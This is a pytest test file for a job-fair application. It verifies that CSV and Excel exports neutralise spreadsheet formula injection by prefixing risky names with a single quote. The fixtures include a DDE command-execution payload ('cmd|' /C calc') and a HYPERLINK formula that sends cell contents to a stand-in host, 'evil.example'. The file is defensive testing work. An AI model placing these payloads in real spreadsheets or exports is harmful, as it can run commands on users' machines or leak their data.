"""Formula injection: names a spreadsheet would run as formulas are exported as plain text.

Seekers and an employer are registered through the services with names such as
``=HYPERLINK(...)``; the fair is exported through the service and through ``jobfair export``;
the files are read back as a spreadsheet reads them (the csv module; openpyxl with and without
``data_only``): no cell is a formula, each risky name shows behind a single quote, and nothing
else changed.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import Engine
from sqlalchemy.orm import Session, sessionmaker

from jobfair.app import main
from jobfair.db.engine import make_engine, make_session_factory
from jobfair.documents.workbook import write_csv, write_workbook
from jobfair.domain.cells import neutralised
from jobfair.services.checkins.service import check_in
from jobfair.services.context import Actor
from jobfair.services.interviews.service import log_interview
from jobfair.services.reports.export import ExportTable, export_tables
from jobfair.services.seekers.service import Consent, SeekerInput, register_seeker
from jobfair.services.setup.fairs import EmployerInput, add_booth, add_employer
from tests.services.fairkit import BIZNO_C, actor, small_fair

HOSTILE_SEEKERS = (
    '=HYPERLINK("http://x","y")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3+cmd",
)
HOSTILE_EMPLOYER = '=HYPERLINK("http://evil.example/?"&A1,"채용")'
PLAIN = "김민준"


def _build(factory: sessionmaker[Session]) -> int:
    fair = small_fair(factory)
    who = actor()
    with factory.begin() as s:
        employer = add_employer(s, who, fair.fair_id,
                                EmployerInput(HOSTILE_EMPLOYER, BIZNO_C, "C"))
        booth = add_booth(s, who, fair.fair_id, employer.id, "C-1")
        for name in (*HOSTILE_SEEKERS, PLAIN):
            seeker = register_seeker(s, who, fair.fair_id, SeekerInput(
                name=name, birth_year=1990, phone="010-1234-5678",
                consent=Consent(collection=True, provision=True)))
            on_the_day = Actor(station_id=who.station_id, name="t",
                               clock=lambda: datetime(2015, 3, 25, 2, 0, tzinfo=UTC))
            check_in(s, on_the_day, seeker.id)
            log_interview(s, on_the_day, seeker_id=seeker.id, booth_id=booth.id,
                          outcome="pending")
    return fair.fair_id


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _check_csv(rows: list[list[str]], name_column: str) -> None:
    header, body = rows[0], rows[1:]
    names = [r[header.index(name_column)] for r in body]
    for name in HOSTILE_SEEKERS:
        assert "'" + name in names
        assert name not in names
    assert PLAIN in names  # nothing else changed
    for row in body:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


def _check_workbook(path: Path) -> None:
    for data_only in (False, True):
        wb = openpyxl.load_workbook(path, data_only=data_only)
        seen: set[Any] = set()
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell.value
                    seen.add(cell.value)
        for name in HOSTILE_SEEKERS:
            assert "'" + name in seen
        assert "'" + HOSTILE_EMPLOYER in seen and PLAIN in seen
        assert "010-1234-5678" in seen  # a phone number is not a formula: unchanged
        assert 1990 in seen  # a number stays a number


def test_service_export_neutralises_every_table(session_factory: sessionmaker[Session],
                                                tmp_path: Path) -> None:
    fair_id = _build(session_factory)
    with session_factory() as s:
        tables = export_tables(s, fair_id, actor=Actor())
    by_key = {t.key: t for t in tables}
    # the service's own rows keep the names as typed: neutralising is the writers' job
    assert any(r[1] == HOSTILE_SEEKERS[0] for r in by_key["seekers"].rows)

    xlsx = tmp_path / "fair.xlsx"
    write_workbook(tables, xlsx)
    _check_workbook(xlsx)
    for key in ("seekers", "checkins", "interviews"):
        out = tmp_path / f"{key}.csv"
        write_csv(by_key[key], out)
        _check_csv(_csv_rows(out.read_bytes()), "Name")
    out = tmp_path / "employers.csv"
    write_csv(by_key["employers"], out)
    employers = [r[1] for r in _csv_rows(out.read_bytes())[1:]]
    assert "'" + HOSTILE_EMPLOYER in employers and "(주)양주섬유" in employers


@pytest.fixture
def sqlite_engine(sqlite_url: str) -> Engine:
    return make_engine(sqlite_url)


def test_cli_export_neutralises(sqlite_url: str, sqlite_engine: Engine, tmp_path: Path,
                                capsys: pytest.CaptureFixture[str]) -> None:
    _build(make_session_factory(sqlite_engine))
    sqlite_engine.dispose()
    xlsx = tmp_path / "fair.xlsx"
    assert main(["export", "--db", sqlite_url, "--lang", "en", "-o", str(xlsx)]) == 0
    _check_workbook(xlsx)
    for key in ("seekers", "checkins", "interviews"):
        out = tmp_path / f"{key}.csv"
        assert main(["export", "--db", sqlite_url, "--lang", "en", "--table", key,
                     "-o", str(out)]) == 0, capsys.readouterr().err
        _check_csv(_csv_rows(out.read_bytes()), "Name")


def test_every_risky_start_and_only_text(tmp_path: Path) -> None:
    """Tab and carriage return too; numbers (a negative one included) and dates stay values."""
    texts = ("=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "010-1234-5678", "a=b", "", "'x")
    table = ExportTable("seekers", "Seekers", ("=Header", "Value", "Count", "When"),
                        [(t, t, -3, datetime(2015, 3, 25, 10, 0)) for t in texts],
                        ())
    assert [neutralised(t) for t in texts] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\t=1+1", "'\r=1+1", "010-1234-5678", "a=b", "", "'x"]
    assert neutralised(-3) == -3 and neutralised(2.5) == 2.5 and neutralised(None) is None

    out = tmp_path / "t.csv"
    write_csv(table, out)
    rows = _csv_rows(out.read_bytes())
    assert rows[0][0] == "'=Header"
    assert [r[1] for r in rows[1:]] == [neutralised(t) for t in texts]
    assert {r[2] for r in rows[1:]} == {"-3"}  # a number, written as the number it is

    xlsx = tmp_path / "t.xlsx"
    write_workbook([table], xlsx)
    for data_only in (False, True):
        ws = openpyxl.load_workbook(xlsx, data_only=data_only).worksheets[0]
        values = [r for r in ws.iter_rows(min_row=2, values_only=True)]
        assert [v[1] or "" for v in values] == [neutralised(t) for t in texts]
        assert {v[2] for v in values} == {-3}
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
